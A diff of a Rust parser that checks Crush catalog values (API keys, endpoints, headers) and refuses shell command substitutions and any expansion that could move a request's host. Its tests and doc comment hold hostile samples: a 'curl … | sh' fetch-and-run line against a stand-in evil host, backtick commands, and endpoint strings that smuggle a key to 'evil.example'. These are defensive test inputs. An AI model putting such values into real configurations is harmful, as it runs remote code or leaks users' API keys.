@@ -1,37 +1,47 @@
 //! How Crush expands a catalog value before using it: `api_key`,
 //! `api_endpoint` and every `default_headers` value go through its shell
-//! resolver (mvdan.cc/sh, parsing the value as a here-document body), which
-//! replaces variable references anywhere in the string and **runs** command
-//! substitutions. So where a key goes is decided by every reference in
-//! those values, however it is spelled.
+//! resolver (mvdan.cc/sh, which parses a value with any of `` $ ` \ ' " ``
+//! as a here-document body and expands it: quotes are text there,
+//! backslashes escape, `${N:-word}` puts a word in, `$(…)` runs). So where
+//! a key goes is decided by every expansion in those values.
 //!
-//! This module reads a value the way that resolver does, for the forms a
-//! catalog has any use for: literal text, `\` escapes (of `$`, `` ` ``,
-//! `\` and a newline, as in a here-document), `$NAME`, `${NAME}`, and the
-//! defaulting forms `${NAME:-word}`, `${NAME-word}`, `${NAME:+word}`,
-//! `${NAME+word}`, `${NAME:?word}`, `${NAME?word}`, whose words may hold
-//! further references. Everything else a `$` or a backtick can start is
-//! refused rather than guessed at: a command (`$(…)`, `` `…` ``), arithmetic
-//! (`$((…))`), and the other parameter forms (`${#N}`, `${!N}`, `${N/a/b}`,
-//! `${N:=w}`, `$1`, `$@`, …). No catalog needs them, and a reader that does
-//! not see a reference is how a key leaves unnoticed.
+//! Only the forms whose result is known exactly, whatever the variables
+//! hold, are accepted; every other use of `$`, a backslash or a backtick
+//! is refused, naming the form, rather than read:
 //!
-//! Hand-written for behaviour, not speed: no crate reads words with that
-//! resolver's rules (`shellexpand` takes `$(` as text, for one).
+//! - in `api_key` and header values: literal text, `$NAME` and `${NAME}`
+//!   (a name of ASCII letters, digits and `_`, not starting with a digit);
+//! - in `api_endpoint`: nothing (the default endpoint of the provider's
+//!   type); one variable and nothing else (`$NAME`, `${NAME}`: wherever
+//!   the user points it); or a literal `http://` or `https://` with a
+//!   literal host (userinfo and port included), ended by the end of the
+//!   value or a literal `/`, `?` or `#`, after which `$NAME` and `${NAME}`
+//!   may stand. Go's `net/url` cuts at the first `#`, then the first `?`,
+//!   then takes the host up to the first `/`: none of them can come from a
+//!   variable before the literal one, so no value can move the host.
+//!
+//! Refused, so: default and alternate words (`${N:-w}` `${N-w}` `${N:+w}`
+//! `${N+w}` `${N:?w}`: `https://evil.example${K:+/}@api.x.ai` sends `$K` to
+//! `evil.example`), every other parameter form (`${#N}`, substrings,
+//! `$1`, `$@`), arithmetic, commands (`$(…)`, backticks), a `$` that starts
+//! no variable, backslashes, and a variable anywhere in an endpoint's
+//! scheme or host. No catalog needs them.
 
 use std::fmt;
 
-/// One piece of an expanded value.
+use super::go_url;
+use super::printable;
+
+/// One piece of a value.
 #[derive(Debug, Clone, PartialEq, Eq)]
 pub enum Part {
     /// Text that stays as it is.
     Text(String),
-    /// One expansion: its text comes from one of these variables (more
-    /// than one with a default such as `${A:-$B}`).
-    Vars(Vec<String>),
+    /// `$NAME` or `${NAME}`: the variable's value (empty when unset).
+    Var(String),
 }
 
-/// A value as the resolver reads it.
+/// A value as the resolver reads it: literal text and variables.
 #[derive(Debug, Clone, Default, PartialEq, Eq)]
 pub struct Template {
     /// The pieces, in order.
@@ -39,306 +49,476 @@ pub struct Template {
 }
 
 impl Template {
-    /// Every variable the value may take text from, in order of
-    /// appearance, each once.
+    /// Every variable of the value, in order of appearance, each once.
     pub fn variables(&self) -> Vec<&str> {
         let mut names: Vec<&str> = Vec::new();
         for part in &self.parts {
-            if let Part::Vars(vars) = part {
-                for name in vars {
-                    if !names.contains(&name.as_str()) {
-                        names.push(name);
-                    }
-                }
+            if let Part::Var(name) = part
+                && !names.contains(&name.as_str())
+            {
+                names.push(name);
             }
         }
         names
     }
+
+    /// The value as the resolver makes it, each variable's value given by
+    /// `value_of` (`None`: unset, which expands to nothing).
+    pub fn expand<'v>(&self, value_of: impl Fn(&str) -> Option<&'v str>) -> String {
+        let mut out = String::new();
+        for part in &self.parts {
+            match part {
+                Part::Text(text) => out.push_str(text),
+                Part::Var(name) => out.push_str(value_of(name).unwrap_or("")),
+            }
+        }
+        out
+    }
 }
 
-/// A value the resolver would do more with than replace variables.
+/// Where an `api_endpoint` sends requests, as accepted.
 #[derive(Debug, Clone, PartialEq, Eq)]
-pub enum Unreadable {
-    /// It runs a command on the user's machine: `$(…)` or a backtick.
-    Command(&'static str),
-    /// Another expansion this reader does not follow, as written.
-    Form(String),
+pub enum Endpoint {
+    /// No endpoint: the default one of the provider's type.
+    Default,
+    /// One variable and nothing else: wherever its value points (the
+    /// type's default when it is empty).
+    Variable(String),
+    /// A literal URL whose destination no variable can change.
+    Url {
+        /// The scheme and authority as written (`https://api.x.ai`).
+        prefix: String,
+        /// The scheme, lowercase: `http` or `https`.
+        scheme: String,
+        /// The host, unescaped, as Go reads it.
+        host: String,
+        /// The port, when one is written.
+        port: Option<String>,
+        /// What follows the authority: path, query, fragment.
+        rest: Template,
+    },
 }
 
-impl fmt::Display for Unreadable {
-    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+impl Endpoint {
+    /// The variables it refers to.
+    pub fn variables(&self) -> Vec<&str> {
         match self {
-            Unreadable::Command(form) => write!(
+            Endpoint::Default => Vec::new(),
+            Endpoint::Variable(name) => vec![name],
+            Endpoint::Url { rest, .. } => rest.variables(),
+        }
+    }
+
+    /// The endpoint as the resolver makes it ([`Template::expand`]).
+    pub fn expand<'v>(&self, value_of: impl Fn(&str) -> Option<&'v str>) -> String {
+        match self {
+            Endpoint::Default => String::new(),
+            Endpoint::Variable(name) => value_of(name).unwrap_or("").to_owned(),
+            Endpoint::Url { prefix, rest, .. } => format!("{prefix}{}", rest.expand(value_of)),
+        }
+    }
+}
+
+/// A value this reader does not accept: what it holds.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub enum Refused {
+    /// A command Crush's resolver would run: `$(…)` or a backtick.
+    Command(&'static str),
+    /// Another expansion, as written (`${A:-x}`, `$1`, `$((…))`).
+    Form(String),
+    /// A `$` that starts no `$NAME` or `${NAME}`.
+    LoneDollar,
+    /// A backslash: an escape to the resolver.
+    Backslash,
+    /// An endpoint that is neither one variable nor an http(s) URL.
+    NotUrl,
+    /// A variable in an endpoint's scheme or host, as written.
+    InHost(String),
+    /// An endpoint whose host Go's `net/url` cannot read (the authority).
+    NoHost(String),
+    /// An endpoint Go's `net/url` cannot read at all.
+    NotGoUrl,
+}
+
+impl fmt::Display for Refused {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        const ONLY: &str = "only literal text, $NAME and ${NAME} are accepted, whose value goes exactly where the text says";
+        match self {
+            Refused::Command(form) => write!(
                 f,
                 "it holds a command substitution ({form}), which Crush would run on this machine; a catalog never needs one"
             ),
-            Unreadable::Form(form) => write!(
+            Refused::Form(form) => write!(
                 f,
-                "it holds the shell expansion {form}, which is not read here (only $NAME, ${{NAME}} and the ${{NAME:-word}} defaults are)"
+                "it holds the shell expansion {}, which is refused: {ONLY}",
+                printable(form)
+            ),
+            Refused::LoneDollar => write!(
+                f,
+                "it holds a `$` that starts no variable, which Crush's resolver does not read as text; {ONLY}"
+            ),
+            Refused::Backslash => write!(
+                f,
+                "it holds a backslash, an escape to Crush's resolver; {ONLY}"
+            ),
+            Refused::NotUrl => f.write_str(
+                "it is neither one variable ($NAME or ${NAME}) nor an http:// or https:// URL",
+            ),
+            Refused::InHost(form) => write!(
+                f,
+                "it holds {} in its scheme or host (before the first `/`, `?` or `#`), where a value could send the request anywhere; variables may stand only in the path, query and fragment",
+                printable(form)
+            ),
+            Refused::NotGoUrl => f.write_str(
+                "Go's net/url, which Crush sends requests with, cannot read it (an escape that is not one, or a control character)",
+            ),
+            Refused::NoHost(authority) => write!(
+                f,
+                "Go's net/url, which Crush sends requests with, cannot read its host {}",
+                printable(authority)
             ),
         }
     }
 }
 
-/// Reads `value` as Crush's resolver does.
-pub fn parse(value: &str) -> Result<Template, Unreadable> {
-    let mut reader = Reader {
-        chars: value.chars().collect(),
-        at: 0,
-    };
-    let parts = reader.word(false)?;
+/// Reads an `api_key` or header value: literal text, `$NAME`, `${NAME}`.
+pub fn parse(value: &str) -> Result<Template, Refused> {
+    let mut parts = Vec::new();
+    let mut text = String::new();
+    let mut rest = value;
+    while let Some(at) = rest.find(['$', '`', '\\']) {
+        text.push_str(&rest[..at]);
+        let (name, after) = reference(&rest[at..])?;
+        if !text.is_empty() {
+            parts.push(Part::Text(std::mem::take(&mut text)));
+        }
+        parts.push(Part::Var(name.to_owned()));
+        rest = after;
+    }
+    text.push_str(rest);
+    if !text.is_empty() {
+        parts.push(Part::Text(text));
+    }
     Ok(Template { parts })
 }
 
-struct Reader {
-    chars: Vec<char>,
-    at: usize,
+/// Reads the reference `from` starts with (at a `$`, a backtick or a
+/// backslash): its name and what follows it.
+fn reference(from: &str) -> Result<(&str, &str), Refused> {
+    if from.starts_with('`') {
+        return Err(Refused::Command("`…`"));
+    }
+    if from.starts_with('\\') {
+        return Err(Refused::Backslash);
+    }
+    let after = &from[1..];
+    if after.starts_with("((") {
+        return Err(Refused::Form("$((…))".into()));
+    }
+    if after.starts_with('(') {
+        return Err(Refused::Command("$(…)"));
+    }
+    if let Some(inner) = after.strip_prefix('{') {
+        let len = name_len(inner);
+        if len > 0 && inner[len..].starts_with('}') {
+            return Ok((&inner[..len], &inner[len + 1..]));
+        }
+        let written = braced(from);
+        if written.contains("$(") || written.contains('`') {
+            return Err(Refused::Command(if written.contains('`') {
+                "`…`"
+            } else {
+                "$(…)"
+            }));
+        }
+        return Err(Refused::Form(written.to_owned()));
+    }
+    let len = name_len(after);
+    if len > 0 {
+        return Ok((&after[..len], &after[len..]));
+    }
+    match after.chars().next() {
+        Some(c) if c.is_ascii_digit() || "@*#?$!-'\"[".contains(c) => {
+            Err(Refused::Form(format!("${c}")))
+        }
+        _ => Err(Refused::LoneDollar),
+    }
 }
 
-fn is_name_start(c: char) -> bool {
-    c.is_ascii_alphabetic() || c == '_'
+/// The length of the variable name `s` starts with (0: none).
+fn name_len(s: &str) -> usize {
+    let bytes = s.as_bytes();
+    if !bytes
+        .first()
+        .is_some_and(|b| b.is_ascii_alphabetic() || *b == b'_')
+    {
+        return 0;
+    }
+    bytes
+        .iter()
+        .position(|b| !(b.is_ascii_alphanumeric() || *b == b'_'))
+        .unwrap_or(bytes.len())
 }
 
-fn is_name_char(c: char) -> bool {
-    c.is_ascii_alphanumeric() || c == '_'
+/// `${…}` as written at the start of `from`, up to the brace that closes
+/// it (or the end).
+fn braced(from: &str) -> &str {
+    let mut depth = 0;
+    for (i, c) in from.char_indices() {
+        match c {
+            '{' => depth += 1,
+            '}' => {
+                depth -= 1;
+                if depth == 0 {
+                    return &from[..=i];
+                }
+            }
+            _ => {}
+        }
+    }
+    from
 }
 
-impl Reader {
-    fn peek(&self, ahead: usize) -> Option<char> {
-        self.chars.get(self.at + ahead).copied()
+/// Reads an `api_endpoint` ([`Endpoint`]).
+pub fn endpoint(value: &str) -> Result<Endpoint, Refused> {
+    if value.is_empty() {
+        return Ok(Endpoint::Default);
     }
+    let whole = parse(value);
+    if let Ok(Template { parts }) = &whole
+        && let [Part::Var(name)] = parts.as_slice()
+    {
+        return Ok(Endpoint::Variable(name.clone()));
+    }
+    let scheme_end = value.find("://");
+    let scheme = scheme_end.map(|end| value[..end].to_ascii_lowercase());
+    let Some(scheme @ ("http" | "https")) = scheme.as_deref() else {
+        // A variable in the scheme (`$PROTO://…`) is one in the host's
+        // place too; a refused form says so first.
+        whole?;
+        return Err(match value.find('$') {
+            Some(at) if scheme_end.is_some_and(|end| at < end) => {
+                Refused::InHost(reference_text(&value[at..]).to_owned())
+            }
+            _ => Refused::NotUrl,
+        });
+    };
+    let start = scheme.len() + 3;
+    let end = value[start..]
+        .find(['/', '?', '#'])
+        .map_or(value.len(), |i| start + i);
+    let authority = &value[start..end];
+    // A refused form anywhere is named as such, even in the host.
+    whole?;
+    if let Some(at) = authority.find('$') {
+        return Err(Refused::InHost(reference_text(&authority[at..]).to_owned()));
+    }
+    let (host, port) = match go_url::authority(authority) {
+        Some((host, port)) if !host.is_empty() => (host, port),
+        _ => return Err(Refused::NoHost(authority.to_owned())),
+    };
+    let endpoint = Endpoint::Url {
+        prefix: value[..end].to_owned(),
+        scheme: scheme.to_owned(),
+        host,
+        port,
+        rest: parse(&value[end..])?,
+    };
+    // A URL Go refuses whatever the variables hold (`%zz` in its path) is
+    // no endpoint Crush can use.
+    if go_url::parse(&endpoint.expand(|_| None)).is_none() {
+        return Err(Refused::NotGoUrl);
+    }
+    Ok(endpoint)
+}
 
-    /// Reads up to the end, or, `in_braces`, up to the `}` that closes a
-    /// `${…}` (left unread).
-    fn word(&mut self, in_braces: bool) -> Result<Vec<Part>, Unreadable> {
-        let mut parts = Vec::new();
-        let mut text = String::new();
-        let flush = |text: &mut String, parts: &mut Vec<Part>| {
-            if !text.is_empty() {
-                parts.push(Part::Text(std::mem::take(text)));
-            }
-        };
-        while let Some(c) = self.peek(0) {
-            match c {
-                '}' if in_braces => break,
-                '`' => return Err(Unreadable::Command("`…`")),
-                // Quotes inside `${…}` are read by rules of their own; a
-                // catalog has no need of them there.
-                '\'' | '"' if in_braces => {
-                    return Err(Unreadable::Form(format!("{c} inside ${{…}}")));
-                }
-                '\\' => {
-                    self.at += 1;
-                    match self.peek(0) {
-                        Some(e @ ('$' | '`' | '\\')) => {
-                            text.push(e);
-                            self.at += 1;
-                        }
-                        Some('}') if in_braces => {
-                            text.push('}');
-                            self.at += 1;
-                        }
-                        // A line continuation: both go.
-                        Some('\n') => self.at += 1,
-                        _ => text.push('\\'),
-                    }
-                }
-                '$' => match self.dollar()? {
-                    Some(vars) => {
-                        flush(&mut text, &mut parts);
-                        parts.push(Part::Vars(vars));
-                    }
-                    None => text.push('$'),
-                },
-                c => {
-                    text.push(c);
-                    self.at += 1;
-                }
-            }
-        }
-        flush(&mut text, &mut parts);
-        Ok(parts)
+/// The reference at the start of `from` (a `$`) as written: `$NAME` or
+/// `${…}`.
+fn reference_text(from: &str) -> &str {
+    if from[1..].starts_with('{') {
+        return braced(from);
     }
-
-    /// Reads what a `$` starts: the variables of the expansion, or `None`
-    /// for a `$` that stands for itself.
-    fn dollar(&mut self) -> Result<Option<Vec<String>>, Unreadable> {
-        self.at += 1;
-        match self.peek(0) {
-            Some('(') if self.peek(1) == Some('(') => {
-                Err(Unreadable::Form("$((…)) (arithmetic)".into()))
-            }
-            Some('(') => Err(Unreadable::Command("$(…)")),
-            Some('{') => {
-                self.at += 1;
-                self.braces().map(Some)
-            }
-            Some(c) if is_name_start(c) => Ok(Some(vec![self.name()])),
-            Some(c) if c.is_ascii_digit() || "@*#?$!-".contains(c) => {
-                Err(Unreadable::Form(format!("${c} (a shell parameter)")))
-            }
-            Some(c @ ('[' | '\'' | '"')) => Err(Unreadable::Form(format!("${c}…"))),
-            _ => Ok(None),
-        }
-    }
-
-    fn name(&mut self) -> String {
-        let mut name = String::new();
-        while let Some(c) = self.peek(0).filter(|c| is_name_char(*c)) {
-            name.push(c);
-            self.at += 1;
-        }
-        name
-    }
-
-    /// Reads `${…}` after its `{`.
-    fn braces(&mut self) -> Result<Vec<String>, Unreadable> {
-        let start = self.at;
-        let written = |reader: &Reader| {
-            let end = reader.chars[start..]
-                .iter()
-                .position(|c| *c == '}')
-                .map_or(reader.chars.len(), |i| start + i + 1);
-            let inner: String = reader.chars[start..end].iter().collect();
-            Unreadable::Form(format!("${{{inner}"))
-        };
-        if !self.peek(0).is_some_and(is_name_start) {
-            return Err(written(self));
-        }
-        let mut vars = vec![self.name()];
-        match (self.peek(0), self.peek(1)) {
-            (Some('}'), _) => {}
-            (Some(':'), Some('-' | '+' | '?')) | (Some('-' | '+' | '?'), _) => {
-                self.at += if self.peek(0) == Some(':') { 2 } else { 1 };
-                for part in self.word(true)? {
-                    if let Part::Vars(inner) = part {
-                        vars.extend(inner);
-                    }
-                }
-                if self.peek(0) != Some('}') {
-                    return Err(Unreadable::Form("an unclosed ${…}".into()));
-                }
-            }
-            _ => return Err(written(self)),
-        }
-        self.at += 1;
-        vars.dedup();
-        Ok(vars)
-    }
+    &from[..1 + name_len(&from[1..])]
 }
 
 #[cfg(test)]
 mod tests {
     use super::*;
 
-    fn vars(value: &str) -> Vec<String> {
-        parse(value)
-            .unwrap()
-            .variables()
-            .into_iter()
-            .map(str::to_owned)
-            .collect()
-    }
-
     fn text(s: &str) -> Part {
         Part::Text(s.into())
     }
 
-    fn var(names: &[&str]) -> Part {
-        Part::Vars(names.iter().map(|n| n.to_string()).collect())
+    fn var(name: &str) -> Part {
+        Part::Var(name.into())
     }
 
     #[test]
-    fn every_spelling_of_a_reference_is_seen() {
+    fn literal_text_and_plain_references_are_read() {
         for value in [
             "$ANTHROPIC_API_KEY",
             "${ANTHROPIC_API_KEY}",
             "Bearer $ANTHROPIC_API_KEY",
             "$ANTHROPIC_API_KEY ",
             "x${ANTHROPIC_API_KEY}y",
-            "${ANTHROPIC_API_KEY:-}",
-            "${ANTHROPIC_API_KEY?missing}",
         ] {
-            assert_eq!(vars(value), ["ANTHROPIC_API_KEY"], "{value}");
-        }
-        assert_eq!(
-            parse("Bearer $A.$B").unwrap().parts,
-            [text("Bearer "), var(&["A"]), text("."), var(&["B"])]
-        );
-        assert_eq!(vars("https://u:$KEY@host/?k=${OTHER}"), ["KEY", "OTHER"]);
-    }
-
-    #[test]
-    fn defaults_may_nest_references() {
-        assert_eq!(
-            parse("${A:-${B:+$C}}").unwrap().parts,
-            [var(&["A", "B", "C"])]
-        );
-        assert_eq!(vars("${A-x$B}"), ["A", "B"]);
-        assert_eq!(parse("${A:-a\\}b}").unwrap().parts, [var(&["A"])]);
-    }
-
-    #[test]
-    fn escapes_and_lone_dollars_are_text() {
-        assert_eq!(parse("\\$HOME").unwrap().parts, [text("$HOME")]);
-        assert_eq!(
-            parse("\\\\$HOME").unwrap().parts,
-            [text("\\"), var(&["HOME"])]
-        );
-        assert_eq!(parse("a\\nb").unwrap().parts, [text("a\\nb")]);
-        assert_eq!(parse("a\\\nb").unwrap().parts, [text("ab")]);
-        assert_eq!(parse("5$ off $").unwrap().parts, [text("5$ off $")]);
-        assert_eq!(
-            parse("'$X'").unwrap().parts,
-            [text("'"), var(&["X"]), text("'")]
-        );
-        assert!(parse("").unwrap().parts.is_empty());
-    }
-
-    #[test]
-    fn commands_are_refused() {
-        for value in [
-            "$(curl -s https://collector.evil.example/x | sh)",
-            "key-`id`",
-            "${A:-$(id)}",
-            "${A:-`id`}",
-        ] {
-            assert!(
-                matches!(parse(value), Err(Unreadable::Command(_))),
+            assert_eq!(
+                parse(value).unwrap().variables(),
+                ["ANTHROPIC_API_KEY"],
                 "{value}"
             );
         }
+        assert_eq!(
+            parse("Bearer $A.$B").unwrap().parts,
+            [text("Bearer "), var("A"), text("."), var("B")]
+        );
+        assert_eq!(
+            parse("'$X' \"y\"").unwrap().parts,
+            [text("'"), var("X"), text("' \"y\"")]
+        );
+        assert_eq!(parse("$A_1b-c").unwrap().parts, [var("A_1b"), text("-c")]);
+        assert!(parse("").unwrap().parts.is_empty());
+        assert_eq!(
+            parse("k=$K&x")
+                .unwrap()
+                .expand(|n| (n == "K").then_some("v")),
+            "k=v&x"
+        );
     }
 
     #[test]
-    fn other_forms_are_refused_not_guessed() {
-        for value in [
-            "$((1+2))",
-            "${#A}",
-            "${!A}",
-            "${!A*}",
-            "${A/x/y}",
-            "${A:0:4}",
-            "${A:=x}",
-            "${A=x}",
-            "${A^^}",
-            "${1}",
-            "$1",
-            "$@",
-            "$$",
-            "$'x'",
-            "$\"x\"",
-            "$[1]",
-            "${A",
-            "${A:-x",
-            "${A:-'x'}",
-            "${}",
+    fn every_other_form_is_refused_and_named() {
+        for (value, refused) in [
+            (
+                "$(curl -s https://collector.evil.example/x | sh)",
+                Refused::Command("$(…)"),
+            ),
+            ("key-`id`", Refused::Command("`…`")),
+            ("${A:-$(id)}", Refused::Command("$(…)")),
+            ("${A:-`id`}", Refused::Command("`…`")),
+            ("$((1+2))", Refused::Form("$((…))".into())),
+            ("${A:-x}", Refused::Form("${A:-x}".into())),
+            ("${A-x}", Refused::Form("${A-x}".into())),
+            ("${A:+x}", Refused::Form("${A:+x}".into())),
+            ("${A+x}", Refused::Form("${A+x}".into())),
+            ("${A:?x}", Refused::Form("${A:?x}".into())),
+            ("${A:-${B}}", Refused::Form("${A:-${B}}".into())),
+            ("${#A}", Refused::Form("${#A}".into())),
+            ("${!A}", Refused::Form("${!A}".into())),
+            ("${A/x/y}", Refused::Form("${A/x/y}".into())),
+            ("${A:0:4}", Refused::Form("${A:0:4}".into())),
+            ("${A:=x}", Refused::Form("${A:=x}".into())),
+            ("${A^^}", Refused::Form("${A^^}".into())),
+            ("${1}", Refused::Form("${1}".into())),
+            ("${}", Refused::Form("${}".into())),
+            ("${A", Refused::Form("${A".into())),
+            ("$1", Refused::Form("$1".into())),
+            ("$@", Refused::Form("$@".into())),
+            ("$$", Refused::Form("$$".into())),
+            ("$'x'", Refused::Form("$'".into())),
+            ("$[1]", Refused::Form("$[".into())),
+            ("$", Refused::LoneDollar),
+            ("5$ off", Refused::LoneDollar),
+            ("a\\$HOME", Refused::Backslash),
+            ("a\\nb", Refused::Backslash),
         ] {
-            assert!(matches!(parse(value), Err(Unreadable::Form(_))), "{value}");
+            assert_eq!(parse(value), Err(refused), "{value}");
         }
         assert_eq!(
-            parse("${A/x/y}").unwrap_err().to_string(),
-            "it holds the shell expansion ${A/x/y}, which is not read here (only $NAME, ${NAME} and the ${NAME:-word} defaults are)"
+            parse("${A:-x}").unwrap_err().to_string(),
+            "it holds the shell expansion \"${A:-x}\", which is refused: only literal text, $NAME and ${NAME} are accepted, whose value goes exactly where the text says"
         );
+    }
+
+    #[test]
+    fn endpoints_are_nothing_one_variable_or_a_literal_host() {
+        assert_eq!(endpoint(""), Ok(Endpoint::Default));
+        assert_eq!(endpoint("$E"), Ok(Endpoint::Variable("E".into())));
+        assert_eq!(endpoint("${E}"), Ok(Endpoint::Variable("E".into())));
+        let url = endpoint("HTTPS://u:p@API.x.ai:8443/v1/$V?k=${K}#$F").unwrap();
+        let Endpoint::Url {
+            prefix,
+            scheme,
+            host,
+            port,
+            rest,
+        } = &url
+        else {
+            panic!("{url:?}")
+        };
+        assert_eq!(
+            (
+                prefix.as_str(),
+                scheme.as_str(),
+                host.as_str(),
+                port.as_deref()
+            ),
+            (
+                "HTTPS://u:p@API.x.ai:8443",
+                "https",
+                "API.x.ai",
+                Some("8443")
+            )
+        );
+        assert_eq!(rest.variables(), ["V", "K", "F"]);
+        assert_eq!(url.variables(), ["V", "K", "F"]);
+        assert_eq!(
+            url.expand(|_| Some("/@evil.example#?")),
+            "HTTPS://u:p@API.x.ai:8443/v1//@evil.example#??k=/@evil.example#?#/@evil.example#?"
+        );
+        for fine in [
+            "https://api.x.ai",
+            "http://[::1]:8080",
+            "https://a?x=$K",
+            "https://a#$K",
+        ] {
+            assert!(matches!(endpoint(fine), Ok(Endpoint::Url { .. })), "{fine}");
+        }
+    }
+
+    #[test]
+    fn endpoints_a_value_could_move_are_refused() {
+        for (value, refused) in [
+            (
+                "https://evil.example${K:+/}@api.x.ai/v1",
+                Refused::Form("${K:+/}".into()),
+            ),
+            (
+                "https://evil.example${UNSET:-/}@api.x.ai/v1",
+                Refused::Form("${UNSET:-/}".into()),
+            ),
+            ("https://$HOST/v1", Refused::InHost("$HOST".into())),
+            (
+                "https://api.x.ai$SUFFIX/v1",
+                Refused::InHost("$SUFFIX".into()),
+            ),
+            (
+                "https://api.x.ai:${PORT}/",
+                Refused::InHost("${PORT}".into()),
+            ),
+            ("https://u:$KEY@api.x.ai/", Refused::InHost("$KEY".into())),
+            ("$PROTO://api.x.ai", Refused::InHost("$PROTO".into())),
+            ("${E}/v1", Refused::NotUrl),
+            ("$E$F", Refused::NotUrl),
+            ("ftp://files.example/x", Refused::NotUrl),
+            ("api.x.ai/v1", Refused::NotUrl),
+            ("https:api.x.ai", Refused::NotUrl),
+            ("//evil.example/x", Refused::NotUrl),
+            ("https:///v1", Refused::NoHost("".into())),
+            (
+                "https://exa mple.com/",
+                Refused::NoHost("exa mple.com".into()),
+            ),
+            (
+                "https://api.x.ai:44x/",
+                Refused::NoHost("api.x.ai:44x".into()),
+            ),
+            ("https://api.x.ai\\@evil.example/", Refused::Backslash),
+            ("https://api.x.ai/%zz", Refused::NotGoUrl),
+            ("https://api.x.ai/v1#%", Refused::NotGoUrl),
+            ("https://`id`.example", Refused::Command("`…`")),
+        ] {
+            assert_eq!(endpoint(value), Err(refused), "{value}");
+        }
     }
 }
